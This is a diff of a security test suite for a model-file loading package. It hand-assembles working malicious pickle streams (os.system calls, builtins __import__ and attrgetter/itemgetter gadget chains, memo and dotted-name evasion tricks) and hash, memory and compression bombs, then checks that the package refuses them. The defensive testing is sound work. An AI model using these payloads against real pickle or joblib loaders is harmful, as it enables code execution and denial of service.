@@ -1,815 +1,2825 @@
-"""Crafted model files: code in the inner stream, code in the outer pickle,
-resource bombs in the head, and random damage.
+"""Crafted model files against every safe entry point, each attack run for real.
 
-An attacker controls every byte of a file and can recompute the payload digest
-(it is not a secret), so each inner-stream attack below carries a valid digest.
-Every attack stream is first shown to work, by running it with plain
-``pickle.loads`` against a control marker, so that no test passes because its
-exploit was broken. The promises checked: ``read_envelope`` never runs what the
-file names, ``audit`` names every global, including those hidden by memo and
-dotted-name tricks, and ``load`` refuses before anything runs.
+An attacker controls every byte of a file and can recompute every checksum
+(only a signature needs a key), so each file below carries valid checksums
+unless the attack is on them. Each attack:
+
+* is first shown to work where that makes sense: a *control* runs the same
+  file (or the same stream) through plain ``pickle.loads`` / ``joblib.load``
+  and must create its marker, connect, crash, hang or blow up memory, so
+  that no test passes on a broken exploit;
+* then runs against ``read_envelope``, ``audit``, ``load`` and the command
+  line (``inspect``, ``check``, ``audit``, ``requirements``, ``diff``,
+  ``verify``, run as ``python -m versioned_estimator`` does, through
+  ``runpy``), in worker processes with an address-space limit (2 GiB over
+  the worker's baseline), a timeout, a listening TCP socket on 127.0.0.1
+  that counts connection attempts, and a watch on the attack's folder
+  (markers, a fake site-packages, a fake package folder).
+
+What every safe run must show: only this package's errors (for the command
+line: exit 0, 1 or 2, one line on stderr for 2, no traceback, no control
+character), no marker and no new or changed file, no connection, no module
+named by the file imported, no crash, an answer in time, and memory bounded
+by the size of the file. Attack-specific expectations (``load`` refuses
+with ``UntrustedGlobalError``, ``audit`` names the global...) come on top.
+
+Attacks are grouped by the classes of the security issue:
+
+1. the outer reader is one restricted interpreter (no call, no mutation of
+   what it did not build, no file created by reading a file);
+2. the allow-list names data, not packages, and leaves gadgets out;
+3. forged numpy dtype state (an object dtype claiming no references);
+4. deciding whether a name is allowed never imports it;
+5. bounded time and memory (hash, repr and JSON bombs, deep nesting, memo
+   indices, compression bombs, declared lengths, FIFOs, long heads);
+6. integrity (digests bind sizes, buffers are raw uint8, signatures);
+7. output (names and versions validated, control characters escaped, wrong
+   types are EnvelopeError).
 """
 
 from __future__ import annotations
 
 import bz2
-import importlib
+import contextlib
+import copy
+import gzip
+import hashlib
 import io
-import operator
+import json
 import os
 import pickle
 import pickletools
-import resource
+import select
 import shlex
 import signal
+import socket
 import struct
-import tempfile
-import tracemalloc
+import subprocess
+import sys
+import threading
+import time
 import warnings
-import zlib
-from collections.abc import Iterator
-from contextlib import contextmanager, suppress
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
 import joblib
 import numpy as np
 import pytest
-from hypothesis import HealthCheck, given, settings
-from hypothesis import strategies as st
-from sklearn.linear_model import LogisticRegression
+from sklearn.datasets import load_iris
+from sklearn.ensemble import StackingRegressor
+from sklearn.linear_model import LinearRegression, LogisticRegression, Ridge
+from sklearn.neighbors import KNeighborsClassifier
+from sklearn.tree import DecisionTreeClassifier
 
-import versioned_estimator
-from versioned_estimator import (
-    EnvelopeError,
-    UntrustedGlobalError,
-    VersionedEstimator,
-    VersionedEstimatorError,
-    audit,
-    config_context,
-    load,
-    read_envelope,
-    save,
+import versioned_estimator as ve
+from versioned_estimator._payload import format1_digests, start_checksums
+from versioned_estimator._signing import sign, signature_for
+
+KEY = "hostile-files-test-key"
+KEY_VARIABLE = "VE_HOSTILE_TEST_KEY"
+MIB = 1024 * 1024
+# The worker's address space may grow this much over its baseline.
+MEMORY_LIMIT = 2 * 1024 * MIB
+# A safe entry point may take this long before it counts as hung; once an
+# attack hung, its other entry points get HANG_AGAIN seconds, and after two
+# hangs the rest of that attack is not run (each hang costs a worker restart).
+HANG = 15.0
+HANG_AGAIN = 4.0
+# Controls that are expected to hang get this long.
+CONTROL_HANG = 6.0
+EXT_CODE = 0xF1  # copyreg extension code registered to posix.system in workers
+EXT_CACHED = 0xF2  # registered to os.system, resolved once before the attack
+
+# ----------------------------------------------------------------------------
+# Pickle opcodes, for hand-assembled streams
+# ----------------------------------------------------------------------------
+
+PROTO5 = b"\x80\x05"
+NONE, TRUE, FALSE = b"N", b"\x88", b"\x89"
+STOP, REDUCE, BUILD, MARK, TUPLE, TUPLE1, TUPLE2 = (
+    b".",
+    b"R",
+    b"b",
+    b"(",
+    b"t",
+    b"\x85",
+    b"\x86",
 )
-from versioned_estimator._payload import payload_digests
-
-# ----------------------------------------------------------------------------
-# Building hostile files
-# ----------------------------------------------------------------------------
-
-P = pickle  # opcode constants, for hand-assembled streams
-
-
-class RunsCommand:
-    """Pickles as ``os.system(command)``: the textbook malicious pickle."""
-
-    def __init__(self, command: str) -> None:
-        self.command = command
-
-    def __reduce__(self) -> tuple[Any, ...]:
-        return (os.system, (self.command,))
-
-
-class Forged:
-    """Pickles as a wrapped model with the parts an attacker chose."""
-
-    def __init__(self, reduced: tuple[Any, Any]) -> None:
-        self.reduced = reduced
-
-    def __reduce_ex__(self, protocol: Any) -> tuple[Any, Any]:
-        return self.reduced
-
-
-def forge(
-    model: VersionedEstimator,
-    *,
-    stream: Any = None,
-    buffers: Any = None,
-    envelope: dict[str, Any] | None = None,
-) -> Forged:
-    """A real model's reduce tuple with parts replaced; when the stream and the
-    buffers are bytes-like, the payload record is recomputed, as an attacker
-    would, so that the digest check passes."""
-    rebuild, (real_envelope, real_stream, real_buffers) = model.__reduce_ex__(5)
-    stream = real_stream if stream is None else stream
-    buffers = list(real_buffers) if buffers is None else buffers
-    envelope = dict(real_envelope if envelope is None else envelope)
-    if isinstance(stream, bytes) and all(isinstance(b, np.ndarray) for b in buffers):
-        envelope["payload"] = payload_digests(stream, buffers)
-    return Forged((rebuild, (envelope, stream, buffers)))
-
-
-def write(obj: Any, path: Path, writer: str) -> Path:
-    """Write ``obj`` with joblib (as ``save`` does) or plain pickle."""
-    if writer == "joblib":
-        joblib.dump(obj, path)
-    else:
-        path.write_bytes(pickle.dumps(obj, protocol=5))
-    return path
+POP, SETITEM, APPENDS, EMPTY_DICT, EMPTY_LIST = b"0", b"s", b"e", b"}", b"]"
 
 
 def text(value: str) -> bytes:
-    """BINUNICODE: a str of any length."""
-    data = value.encode()
-    return P.BINUNICODE + struct.pack("<I", len(data)) + data
+    """SHORT_BINUNICODE or BINUNICODE."""
+    data = value.encode("utf-8", "surrogatepass")
+    if len(data) < 256:
+        return b"\x8c" + bytes([len(data)]) + data
+    return b"X" + struct.pack("<I", len(data)) + data
+
+
+def raw(value: bytes) -> bytes:
+    """SHORT_BINBYTES or BINBYTES."""
+    if len(value) < 256:
+        return b"C" + bytes([len(value)]) + value
+    return b"B" + struct.pack("<I", len(value)) + value
+
+
+def integer(n: int) -> bytes:
+    if 0 <= n < 256:
+        return b"K" + bytes([n])
+    if 0 <= n < 65536:
+        return b"M" + struct.pack("<H", n)
+    if -(2**31) <= n < 2**31:
+        return b"J" + struct.pack("<i", n)
+    data = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
+    return b"\x8a" + bytes([len(data)]) + data
 
 
 def glob(module: str, name: str) -> bytes:
-    """GLOBAL: a global named by text lines (protocols 0 to 2)."""
-    return P.GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"
+    """STACK_GLOBAL: any module and name, dots and control characters included."""
+    return text(module) + text(name) + b"\x93"
 
 
-def call1(argument: bytes) -> bytes:
-    """Call what is on the stack with one argument."""
-    return argument + P.TUPLE1 + P.REDUCE
+def tup(*items: bytes) -> bytes:
+    return MARK + b"".join(items) + TUPLE
 
 
-def reexport(obj: Any, candidates: list[str]) -> str:
-    """A scikit-learn module that imports ``obj`` under its own name."""
-    name = obj.__name__
-    for module in candidates:
-        if getattr(importlib.import_module(module), name, None) is obj:
-            return module
-    raise AssertionError(f"none of {candidates} imports {name}: update the list")
+def call(func: bytes, *args: bytes) -> bytes:
+    return func + tup(*args) + REDUCE
 
 
-def module_importing_os() -> tuple[str, str]:
-    """(module, dotted name) under scikit-learn that resolves to os.system."""
-    for module in ("sklearn.utils._array_api", "sklearn.utils.fixes", "sklearn.base"):
-        mod = importlib.import_module(module)
-        if getattr(mod, "os", None) is os:
-            return module, "os.system"
-        inspect_module = getattr(mod, "inspect", None)
-        if getattr(inspect_module, "os", None) is os:
-            return module, "inspect.os.system"
-    raise AssertionError("no candidate scikit-learn module imports os or inspect")
+def put(index: int) -> bytes:
+    return b"r" + struct.pack("<I", index)  # LONG_BINPUT
 
 
-def inner_attacks(command: str) -> dict[str, tuple[bytes, tuple[str, ...]]]:
-    """Inner streams that run ``command``, and the names an audit must report."""
-    attrgetter_home = reexport(
-        operator.attrgetter,
-        ["sklearn.feature_selection._base", "sklearn.utils._metadata_requests"],
-    )
-    itemgetter_home = reexport(
-        operator.itemgetter,
-        [
-            "sklearn.feature_extraction.text",
-            "sklearn.gaussian_process._gpc",
-        ],
-    )
-    os_module, os_path = module_importing_os()
-    attr = glob(attrgetter_home, "attrgetter")
-    item = glob(itemgetter_home, "itemgetter")
-    return {
-        # The textbook: REDUCE(os.system, (command,)).
-        "reduce": (pickle.dumps(RunsCommand(command), protocol=5), ("posix.system",)),
-        # STACK_GLOBAL fed from memoized strings stashed in a discarded list:
-        # a backwards opcode walk before STACK_GLOBAL sees two BINGETs.
-        "memo-stack-global": (
-            P.PROTO
-            + b"\x04"
-            + P.EMPTY_LIST
-            + P.MARK
-            + P.SHORT_BINUNICODE
-            + b"\x02os"
-            + P.MEMOIZE
-            + P.SHORT_BINUNICODE
-            + b"\x06system"
-            + P.MEMOIZE
-            + P.APPENDS
-            + P.POP
-            + P.BINGET
-            + b"\x00"
-            + P.BINGET
-            + b"\x01"
-            + P.STACK_GLOBAL
-            + call1(text(command))
-            + P.STOP,
-            ("os.system",),
-        ),
-        # GLOBAL memoized and dropped at once, fetched again far from the call.
-        "memo-global": (
-            P.PROTO
-            + b"\x02"
-            + glob("posix", "system")
-            + P.BINPUT
-            + b"\x07"
-            + P.POP
-            + P.NONE
-            + P.POP
-            + P.BINGET
-            + b"\x07"
-            + call1(text(command))
-            + P.STOP,
-            ("posix.system",),
-        ),
-        # builtins + getattr: getattr(__import__("os"), "system")(command).
-        "builtins-getattr": (
-            P.PROTO
-            + b"\x02"
-            + glob("builtins", "getattr")
-            + glob("builtins", "__import__")
-            + call1(text("os"))
-            + text("system")
-            + P.TUPLE2
-            + P.REDUCE
-            + call1(text(command))
-            + P.STOP,
-            ("builtins.getattr", "builtins.__import__"),
-        ),
-        # A dotted name (protocol 4 resolves it attribute by attribute).
-        "dotted-call": (
-            P.PROTO
-            + b"\x04"
-            + text("os")
-            + text("system.__call__")
-            + P.STACK_GLOBAL
-            + call1(text(command))
-            + P.STOP,
-            ("os.system.__call__",),
-        ),
-        # A dotted name through an allowed package: sklearn.<module>.os.system.
-        "dotted-through-sklearn": (
-            P.PROTO
-            + b"\x04"
-            + text(os_module)
-            + text(os_path)
-            + P.STACK_GLOBAL
-            + call1(text(command))
-            + P.STOP,
-            (f"{os_module}.{os_path}",),
-        ),
-        # Gadgets scikit-learn modules import from the standard library:
-        # attrgetter("system")(itemgetter("__import__")(itemgetter("__builtins__")(
-        #     attrgetter("__init__.__globals__")(LogisticRegression)))("os"))(command)
-        "gadget-chain": (
-            P.PROTO
-            + b"\x02"
-            + attr
-            + call1(text("system"))
-            + item
-            + call1(text("__import__"))
-            + item
-            + call1(text("__builtins__"))
-            + attr
-            + call1(text("__init__.__globals__"))
-            + call1(glob("sklearn.linear_model._logistic", "LogisticRegression"))
-            + P.TUPLE1
-            + P.REDUCE
-            + P.TUPLE1
-            + P.REDUCE
-            + call1(text("os"))
-            + P.TUPLE1
-            + P.REDUCE
-            + call1(text(command))
-            + P.STOP,
-            (f"{attrgetter_home}.attrgetter", f"{itemgetter_home}.itemgetter"),
-        ),
-        # Operations a naive dry run of stubs fails on, so that it stops before
-        # the dangerous global: BUILD on a class, ADDITEMS on a set.
-        "dry-run-evasion": (
-            P.PROTO
-            + b"\x04"
-            + glob("builtins", "object")
-            + P.NONE
-            + P.EMPTY_DICT
-            + P.TUPLE2
-            + P.BUILD
-            + P.POP
-            + glob("builtins", "set")
-            + P.EMPTY_TUPLE
-            + P.REDUCE
-            + P.MARK
-            + P.BININT1
-            + b"\x01"
-            + P.ADDITEMS
-            + P.POP
-            + glob("posix", "system")
-            + call1(text(command))
-            + P.STOP,
-            ("posix.system",),
-        ),
-    }
+def get(index: int) -> bytes:
+    return b"j" + struct.pack("<I", index)  # LONG_BINGET
 
 
-@pytest.fixture(scope="module")
-def model(iris: Any) -> VersionedEstimator:
-    """A real wrapped model to forge files from."""
-    X, y = iris
-    return VersionedEstimator(LogisticRegression(max_iter=500)).fit(X, y)
+def tuple_bomb(depth: int, start: int = 0) -> bytes:
+    """A tuple of two references to a tuple of two references to ...: a few
+    bytes a level, 2**depth nodes when hashed, compared or printed."""
+    out = NONE + put(start) + POP
+    for level in range(depth):
+        out += get(start + level) * 2 + TUPLE2 + put(start + level + 1) + POP
+    return out + get(start + depth)
 
 
-@pytest.fixture
-def marker(tmp_path: Path) -> Path:
-    """A file the attacks try to create; it must never appear."""
-    return tmp_path / "pwned"
+def list_bomb(depth: int, start: int = 0) -> bytes:
+    """The same with lists (JSON, deepcopy and compare expand it)."""
+    out = EMPTY_LIST + put(start) + POP
+    for level in range(depth):
+        item = get(start + level)
+        out += EMPTY_LIST + MARK + item + item + APPENDS + put(start + level + 1) + POP
+    return out + get(start + depth)
 
 
-def touch(path: Path) -> str:
-    return f"touch {shlex.quote(str(path))}"
+def forged_object_dtype() -> bytes:
+    """``numpy.dtype("O8")`` whose state claims no references (flags 0)."""
+    state = tup(integer(3), text("|"), NONE, NONE, NONE, integer(-1), integer(-1))
+    state = state[:-1] + integer(0) + TUPLE
+    return call(glob("numpy", "dtype"), text("O8"), FALSE, TRUE) + state + BUILD
 
 
-ATTACKS = list(inner_attacks("true"))
-
-# ----------------------------------------------------------------------------
-# 1. Code in the inner stream
-# ----------------------------------------------------------------------------
+def touch(marker: Path) -> str:
+    return f"touch {shlex.quote(str(marker))}"
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_attack_streams_are_real_exploits(attack, tmp_path):
-    """Each inner attack stream runs its command under plain pickle.loads."""
-    control = tmp_path / "control"
-    stream, _ = inner_attacks(touch(control))[attack]
-    pickle.loads(stream)
-    assert control.exists()
+def system(marker: Path) -> bytes:
+    """``posix.system("touch marker")``, the textbook malicious pickle."""
+    return call(glob("posix", "system"), text(touch(marker)))
 
 
-@pytest.mark.parametrize("writer", ["joblib", "pickle"])
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_inner_stream_code_is_reported_and_refused(
-    model, attack, writer, marker, tmp_path
-):
-    """audit names the dangerous globals, load refuses them naming each one,
-    read_envelope still works, and the command never runs."""
-    stream, expected = inner_attacks(touch(marker))[attack]
-    path = write(forge(model, stream=stream, buffers=[]), tmp_path / "m.pkl", writer)
-
-    envelope = read_envelope(path)
-    assert envelope.estimator_class == model.envelope.estimator_class
-    assert not marker.exists()
-
-    report = audit(path)
-    assert not marker.exists()
-    assert not report.ok
-    for name in expected:
-        assert name in report.untrusted
-        assert name in report.dangerous
-
-    with pytest.raises(UntrustedGlobalError, match=r"trusted=\[") as caught:
-        load(path)
-    assert not marker.exists()
-    assert set(expected) <= set(caught.value.names)
-    assert "can run arbitrary code" in str(caught.value)
-
-
-def test_audit_and_load_see_a_global_hidden_after_an_odd_prefix(model, tmp_path):
-    """A dry run is not stopped by BUILD on a class or ADDITEMS on a set: the
-    global after them is still listed (and its file still refused)."""
-    marker = tmp_path / "pwned"
-    stream, _ = inner_attacks(touch(marker))["dry-run-evasion"]
-    path = write(forge(model, stream=stream, buffers=[]), tmp_path / "m.pkl", "joblib")
-    report = audit(path)
-    assert report.globals == ["builtins.object", "builtins.set", "posix.system"]
-    assert report.untrusted == ["posix.system"]
-    assert "class builtins.object itself" in str(report.error)
-
-
-def test_trusting_a_dangerous_name_is_the_callers_choice(model, marker, tmp_path):
-    """Only the caller's trusted= lets a name through: the same file then runs
-    it, which is why the error says what the names are."""
-    stream, _ = inner_attacks(touch(marker))["reduce"]
-    path = write(forge(model, stream=stream, buffers=[]), tmp_path / "m.pkl", "joblib")
-    with pytest.raises(UntrustedGlobalError):
-        load(path, trusted=["os.system"])  # the stream names posix.system
-    assert not marker.exists()
-
-
-def test_plain_joblib_load_trusts_the_file_as_pickle_does(model, marker, tmp_path):
-    """The threat model, stated: joblib.load returns a sealed model without
-    running anything, but its first use unpickles the inner stream unguarded."""
-    stream, _ = inner_attacks(touch(marker))["reduce"]
-    path = write(forge(model, stream=stream, buffers=[]), tmp_path / "m.pkl", "joblib")
-    with config_context(on_drift="ignore"):
-        sealed = joblib.load(path)
-    assert sealed.envelope.estimator_class == model.envelope.estimator_class
-    assert not marker.exists()
-    with pytest.raises(AttributeError):
-        sealed.predict([[0.0, 0.0, 0.0, 0.0]])
-    assert marker.exists()
+def unframe(data: bytes) -> bytes:
+    """Drop FRAME opcodes (optional), so that a splice keeps the file valid."""
+    cut = [pos for op, _, pos in pickletools.genops(data) if op.name == "FRAME"]
+    out = bytearray()
+    last = 0
+    for pos in cut:
+        out += data[last:pos]
+        last = pos + 9
+    return bytes(out + data[last:])
 
 
 # ----------------------------------------------------------------------------
-# 2. Code in the outer pickle
+# Objects that pickle as what an attacker writes
 # ----------------------------------------------------------------------------
 
 
-def outer_attacks(model: VersionedEstimator, command: str) -> dict[str, Any]:
-    """Objects whose outer pickle names a dangerous global somewhere."""
-    envelope = model.__reduce_ex__(5)[1][0]
-    return {
-        "first-global": RunsCommand(command),
-        "after-the-envelope": forge(model, stream=RunsCommand(command)),
-        "inside-the-envelope": forge(
-            model, envelope={**envelope, "metadata": {"note": RunsCommand(command)}}
-        ),
-        "object-array-buffer": forge(
-            model, buffers=[np.array([RunsCommand(command)], dtype=object)]
-        ),
-    }
+class Call:
+    """Pickles as ``func(*args)``: a REDUCE the attacker chose."""
+
+    def __init__(self, func: Any, *args: Any) -> None:
+        self.func, self.args = func, args
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (self.func, self.args)
+
+    def __call__(self, *args: Any) -> Any:  # pragma: no cover - pickling only
+        raise AssertionError("a Call only pickles")
 
 
-@pytest.mark.parametrize("writer", ["joblib", "pickle"])
-@pytest.mark.parametrize(
-    "attack",
-    [
-        "first-global",
-        "after-the-envelope",
-        "inside-the-envelope",
-        "object-array-buffer",
-    ],
-)
-def test_outer_pickle_code_is_refused(model, attack, writer, marker, tmp_path):
-    """A dangerous global in the outer pickle: read_envelope returns the
-    envelope only when it lies before the global, load and audit refuse the
-    file with EnvelopeError, and the command never runs."""
-    obj = outer_attacks(model, touch(marker))[attack]
-    path = write(obj, tmp_path / "m.pkl", writer)
-    if attack in ("first-global", "inside-the-envelope"):
-        with pytest.raises(EnvelopeError, match=r"system|global"):
-            read_envelope(path)
-    else:
-        assert read_envelope(path).estimator_class == model.envelope.estimator_class
-    assert not marker.exists()
-    for mmap_mode in (None, "r"):
-        with pytest.raises(EnvelopeError, match=r"crafted|not a model saved"):
-            load(path, mmap_mode=mmap_mode)
-        assert not marker.exists()
-    with pytest.raises(EnvelopeError):
-        audit(path)
-    assert not marker.exists()
+class Reduced:
+    """Pickles as the reduce tuple it was given."""
+
+    def __init__(self, reduced: tuple[Any, ...]) -> None:
+        self.reduced = reduced
+
+    def __reduce_ex__(self, protocol: Any) -> tuple[Any, ...]:
+        return self.reduced
 
 
-def test_outer_attack_files_are_real_exploits(model, tmp_path):
-    """Each outer attack file runs its command under plain joblib.load."""
-    for attack in outer_attacks(model, "true"):
-        control = tmp_path / f"control-{attack}"
-        path = write(
-            outer_attacks(model, touch(control))[attack], tmp_path / "f", "joblib"
+def _hole(index: int) -> None:  # pragma: no cover - never called
+    raise AssertionError(index)
+
+
+class Hole:
+    """A placeholder whose pickled bytes :func:`splice` replaces with raw opcodes."""
+
+    def __init__(self, index: int = 0) -> None:
+        self.index = index
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (_hole, (self.index,))
+
+
+def dumps_fast(obj: Any, protocol: int = 5) -> bytes:
+    """Pickle without memo and without frames: raw opcodes can be spliced in."""
+    buffer = io.BytesIO()
+    pickler = pickle.Pickler(buffer, protocol)
+    pickler.fast = True
+    pickler.dump(obj)
+    return unframe(buffer.getvalue())
+
+
+def splice(data: bytes, holes: dict[int, bytes]) -> bytes:
+    for index, ops in holes.items():
+        marker = dumps_fast(Hole(index))[2:-1]
+        assert data.count(marker) == 1, index
+        data = data.replace(marker, ops)
+    return data
+
+
+# ----------------------------------------------------------------------------
+# Parts of real models, and files assembled from them
+# ----------------------------------------------------------------------------
+
+
+class TrailerCall:
+    def __init__(self, rebuild: Any, data: dict[str, Any]) -> None:
+        self.rebuild, self.data = rebuild, data
+
+    def __reduce_ex__(self, protocol: Any) -> Any:
+        return (self.rebuild, (self.data,))
+
+
+@dataclass
+class Parts:
+    rebuild: Any
+    envelope: dict[str, Any]
+    stream: bytes
+    buffers: list[Any]
+    trailer: dict[str, Any]
+
+    def copy(self) -> Parts:
+        return Parts(
+            self.rebuild,
+            copy.deepcopy(self.envelope),
+            self.stream,
+            list(self.buffers),
+            copy.deepcopy(self.trailer),
         )
-        with warnings.catch_warnings(), suppress(TypeError, ValueError, AttributeError):
-            # The command runs while the file is read; the rest may then fail.
-            warnings.simplefilter("ignore")
-            joblib.load(path)
-        assert control.exists(), attack
 
 
-# ----------------------------------------------------------------------------
-# Resource bombs and malformed heads
-# ----------------------------------------------------------------------------
-
-HEAD = P.PROTO + b"\x04" + glob("versioned_estimator", "_rebuild")
-
-
-class Hang(BaseException):
-    """Raised by :func:`time_limit`; a BaseException, so that no ``except
-    Exception`` in the code under test can turn it into an ordinary error."""
-
-
-@contextmanager
-def time_limit(seconds: float) -> Iterator[None]:
-    """Fail instead of hanging: SIGALRM after ``seconds``."""
-
-    def expired(signum: int, frame: Any) -> None:
-        raise Hang(f"took more than {seconds} s")
-
-    previous = signal.signal(signal.SIGALRM, expired)
-    signal.setitimer(signal.ITIMER_REAL, seconds)
-    try:
-        yield
-    finally:
-        signal.setitimer(signal.ITIMER_REAL, 0)
-        signal.signal(signal.SIGALRM, previous)
-
-
-def test_a_long_head_costs_linear_time():
-    """200 000 one-byte opcodes after _rebuild are refused in about a second
-    (a reader that rescans its stack per opcode took 40 s for 40 000)."""
-    data = HEAD + P.NONE * 200_000 + P.STOP
-    with time_limit(20), pytest.raises(EnvelopeError):
-        read_envelope(data)
-
-
-def test_a_compression_bomb_in_the_head_is_not_inflated():
-    """A bz2 file whose 81 bytes inflate to 50 MB is refused after reading a
-    little of it: read_envelope's memory does not follow the expansion."""
-    bomb = bz2.compress(P.PROTO + b"\x04" + P.FRAME + bytes(8) + bytes(50_000_000))
-    assert len(bomb) < 1000
-    tracemalloc.start()
-    try:
-        with pytest.raises(EnvelopeError):
-            read_envelope(bomb)
-        peak = tracemalloc.get_traced_memory()[1]
-    finally:
-        tracemalloc.stop()
-    assert peak < 4_000_000
-
-
-def head_end(data: bytes) -> int:
-    """Offset of the opcode after the envelope dict, where the head reader stops."""
-    head = versioned_estimator._reader._Source(io.BytesIO(data), "data")
-    versioned_estimator._reader._Interpreter(head).run()
-    return head.consumed - 1
-
-
-def with_entry(model: VersionedEstimator, key: str, value: bytes) -> bytes:
-    """A protocol 2 pickle of ``model`` whose envelope gets one more entry,
-    written as raw opcodes into its last SETITEMS batch."""
-    data = pickle.dumps(model, protocol=2)
-    cut = head_end(data) - 1
-    assert data[cut : cut + 1] == P.SETITEMS
-    return data[:cut] + text(key) + value + data[cut:]
-
-
-@pytest.mark.parametrize("shape", ["cycle", "doubling", "deep"])
-def test_envelopes_that_refer_to_themselves_are_refused(model, shape, tmp_path):
-    """A memo-built envelope that contains itself, doubles per level (2**60
-    nodes when expanded) or nests 10 000 deep is an EnvelopeError, not a hang
-    or a RecursionError, for read_envelope and load."""
-    if shape == "deep":
-        nested = P.EMPTY_LIST * 10_000 + P.APPEND * 9_999
-        path = tmp_path / "m.pkl"
-        path.write_bytes(with_entry(model, "deep", nested))
-    else:
-        envelope = dict(model.__reduce_ex__(5)[1][0])
-        if shape == "cycle":
-            envelope["metadata"] = {"self": envelope}
-        else:
-            node: list[Any] = []
-            for _ in range(60):
-                node = [node, node]
-            envelope["metadata"] = {"bomb": node}
-        path = write(forge(model, envelope=envelope), tmp_path / "m.pkl", "joblib")
-    with time_limit(20):
-        with pytest.raises(EnvelopeError, match=r"refers to itself|nests"):
-            read_envelope(path)
-        with pytest.raises(EnvelopeError):
-            load(path)
-
-
-@pytest.mark.parametrize(
-    "body",
-    [
-        pytest.param(P.EMPTY_DICT + P.UNICODE + b"\\u12\n", id="bad-raw-unicode"),
-        pytest.param(P.MARK + P.EMPTY_LIST + P.NONE + P.DICT, id="unhashable-key"),
-        pytest.param(P.MARK + P.TUPLE1 + P.STOP, id="captured-mark"),
-        pytest.param(
-            P.EMPTY_DICT + P.BININT1 + b"\x01" + P.NONE + P.SETITEM, id="int-key"
-        ),
-        pytest.param(P.LONG4 + struct.pack("<i", -5), id="negative-length"),
-        pytest.param(P.BINUNICODE8 + struct.pack("<Q", 2**62), id="huge-length"),
-        pytest.param(P.BINGET + b"\x09", id="unknown-memo"),
-    ],
-)
-def test_malformed_heads_raise_envelope_error(body):
-    """Malformed opcodes in the head are an EnvelopeError, never another type."""
-    with time_limit(10), pytest.raises(EnvelopeError):
-        read_envelope(HEAD + body + P.STOP)
-
-
-@pytest.mark.parametrize("protocol", [0, 1])
-def test_protocol_0_and_1_pickles_are_read_whole(model, iris, protocol):
-    """Pickles without PROTO may set the envelope one item at a time: the head
-    reader still returns all of it, and load reads such files."""
-    X, _ = iris
-    data = pickle.dumps(model, protocol=protocol)
-    assert read_envelope(data) == model.envelope
-    np.testing.assert_array_equal(load(data).predict(X), model.predict(X))
-
-
-def amend_after_head(model: VersionedEstimator) -> bytes:
-    """A pickle whose envelope gets a SETITEM after the point where the head
-    reader stops: pickle builds an envelope that read_envelope never sees."""
-    data = pickle.dumps(model, protocol=2)
-    cut = head_end(data)
-    return (
-        data[:cut]
-        + text("metadata")
-        + P.EMPTY_DICT
-        + text("owner")
-        + text("mallory")
-        + P.SETITEM
-        + P.SETITEM
-        + data[cut:]
+def parts_of(model: Any) -> Parts:
+    rebuild, args = model.__reduce_ex__(5)
+    envelope, stream, buffers, trailer = args
+    return Parts(
+        rebuild,
+        copy.deepcopy(envelope),
+        bytes(stream),
+        [np.array(b, copy=True) for b in buffers],
+        copy.deepcopy(trailer.result()),
     )
 
 
-def test_an_envelope_can_be_amended_after_its_head(model):
-    """The head reader stops at the end of the envelope dict, so what follows
-    can still change the dict pickle builds (the reason load must compare)."""
-    amended = amend_after_head(model)
-    assert read_envelope(amended).metadata == {}
-    assert pickle.loads(amended).envelope.metadata == {"owner": "mallory"}
+def assemble(
+    base: Parts,
+    *,
+    envelope: Callable[[dict[str, Any]], Any] | None = None,
+    stream: Any = None,
+    buffers: list[Any] | None = None,
+    trailer: Callable[[dict[str, Any]], Any] | None = None,
+    recompute: bool = True,
+    key: str | None = None,
+) -> Reduced:
+    """A format 2 file of ``base`` with parts replaced, checksums recomputed
+    (as anyone can) and, with ``key``, signed."""
+    parts = base.copy()
+    head, tail = parts.envelope, parts.trailer
+    new_stream = parts.stream if stream is None else stream
+    new_buffers = parts.buffers if buffers is None else buffers
+    if recompute:
+        sizes = [memoryview(b).nbytes for b in new_buffers]
+        payload = head["payload"]
+        payload["stream"] = {"nbytes": len(new_stream)}
+        payload["buffers"] = [{"nbytes": n} for n in sizes]
+        payload["nbytes"] = len(new_stream) + sum(sizes)
+        payload["checksum"] = "sha256" if key else "crc32"
+        payload["signed"] = "hmac-sha256" if key else None
+        tail.pop("signature", None)
+        tail["checksums"] = start_checksums(
+            payload["checksum"], new_stream, new_buffers
+        ).result()
+    if envelope is not None:
+        envelope(head)
+    if recompute and key:
+        tail["signature"] = signature_for(head, tail, key.encode())
+    if trailer is not None:
+        trailer(tail)
+    args = (head, new_stream, new_buffers, TrailerCall(parts.rebuild, tail))
+    return Reduced((parts.rebuild, args))
 
 
-def test_load_refuses_an_envelope_amended_after_its_head(model):
-    """load raises EnvelopeError when the envelope it would use differs from
-    the one read_envelope shows."""
-    with pytest.raises(EnvelopeError):
-        load(amend_after_head(model))
+def format1(base: Parts, *, stream: bytes, key: str | None = None) -> dict[str, Any]:
+    """A format 1 envelope (SHA-256 tree digests in the head) for ``stream``."""
+    head = copy.deepcopy(base.envelope)
+    head["format_version"] = 1
+    head["payload"] = format1_digests(stream, [])
+    if head.get("probe"):
+        head["probe"]["outputs"] = base.trailer["probe"]["outputs"]
+    return sign(head, key.encode()) if key else head
 
 
-@pytest.mark.parametrize(
-    "payload",
-    ["not a record", [], {"buffers": 5}],
-    ids=["str", "list", "int-buffers"],
-)
-def test_a_malformed_payload_record_is_this_packages_error(model, payload):
-    """An envelope whose payload record has the wrong types makes load raise
-    this package's error."""
-    envelope = {**model.__reduce_ex__(5)[1][0], "payload": payload}
-    rebuild, (_, stream, buffers) = model.__reduce_ex__(5)
-    data = pickle.dumps(Forged((rebuild, (envelope, stream, buffers))))
-    with pytest.raises(VersionedEstimatorError):
-        load(data)
+def probe_list_of(value: Any) -> dict[str, Any]:
+    """Probe rows that decode to ``value`` itself (a 0-d object array's item)."""
+    return {
+        "n_rows": 1,
+        "X": {
+            "kind": "list",
+            "array": {
+                "kind": "ndarray",
+                "dtype": "object",
+                "shape": [],
+                "items": [value],
+            },
+        },
+    }
 
 
-def declared_length_at(data: bytes, opcode: str) -> int:
-    """Offset of the 8-byte length of the first ``opcode`` in a pickle."""
-    for op, _, position in pickletools.genops(data):
-        if op.name == opcode:
